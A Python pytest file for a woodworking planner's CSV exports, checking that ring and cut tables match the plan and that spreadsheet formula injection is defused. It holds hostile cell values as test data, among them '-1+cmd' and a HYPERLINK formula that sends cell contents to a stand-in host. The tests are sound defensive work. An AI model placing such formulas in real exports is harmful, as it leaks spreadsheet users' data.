"""Tables: the plan's own names and numbers, and nothing that a spreadsheet would run."""

import csv
import io
from typing import Any

import pytest
from exports_pieces import every_kind, goblet, small_pieces
from hypothesis import given, settings

from server.craft.document import parse_piece
from server.craft.plan import plan, plan_json
from server.exports.csv_tables import cuts_csv, rings_csv, safe_cell


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _same(row: dict[str, str], said: dict[str, Any]) -> None:
    for name, cell in row.items():
        value = said[name]
        if value is None:
            assert cell == "", name
        elif isinstance(value, float):
            assert float(cell) == value, name
        else:
            assert cell == str(value), name


@pytest.mark.parametrize("document", [goblet(), every_kind()], ids=["goblet", "every-kind"])
def test_rings_are_the_plans_rings(document: dict[str, Any]) -> None:
    planned = plan(parse_piece(document))
    said = [
        {"part": part["id"], **ring}
        for part in plan_json(planned)["parts"]
        for ring in part["rings"]
    ]
    rows = _rows(rings_csv(planned))
    assert len(rows) == len(said)
    for row, ring in zip(rows, said, strict=True):
        assert set(row) == set(ring) - {"segments"}
        _same(row, ring)


@settings(max_examples=20, deadline=None)
@given(small_pieces())
def test_cuts_are_the_plans_strips(document: dict[str, Any]) -> None:
    planned = plan(parse_piece(document))
    said = plan_json(planned)["strips"]
    rows = _rows(cuts_csv(planned))
    assert len(rows) == len(said)
    for row, strip in zip(rows, said, strict=True):
        assert set(row) == set(strip)
        _same(row, strip)


def test_lines_end_as_the_standard_says_and_there_is_no_mark_before_them() -> None:
    text = rings_csv(plan(parse_piece(goblet())))
    assert text.startswith("part,id,kind,z_bottom_mm,")
    assert text.count("\r\n") == 6
    assert text.replace("\r\n", "").count("\n") == 0


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1+cmd",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "  =1",
        "\u00a0=1",
        "\u200b=1",
        "＝1",
        "＠x",
        "|x",
        "%x",
        "\x00=1",
    ],
)
def test_what_begins_like_a_formula_becomes_text(text: str) -> None:
    assert safe_cell(text).startswith("'")
    assert safe_cell(text)[1:] == text.replace("\x00", "")


@pytest.mark.parametrize("text", ["b1", "low/sapele", "קערה", "a=b", "3-ply", "'quoted'", ""])
def test_other_text_stays(text: str) -> None:
    assert safe_cell(text) == text


def test_numbers_are_never_quoted() -> None:
    assert safe_cell(-1.5) == "-1.5"
    assert safe_cell(0.1 + 0.2) == "0.30000000000000004"
    assert safe_cell(None) == ""


def test_ids_that_are_formulas_are_defused_and_line_ends_stay_inside_their_cell() -> None:
    document = goblet()
    evil = '=HYPERLINK("http://example.org?"&A1,"x")'
    ring = document["parts"][0]["rings"][0]
    ring["id"], document["stacks"] = evil, []
    document["parts"][0]["rings"][1]["id"] = 'two\r\nlines, "quoted"'
    rows = _rows(rings_csv(plan(parse_piece(document))))
    assert [row["id"] for row in rows[:2]] == ["'" + evil, 'two\r\nlines, "quoted"']
    cuts = _rows(cuts_csv(plan(parse_piece(document))))
    assert all(not cell.startswith(("=", "+", "@")) for row in cuts for cell in row.values())
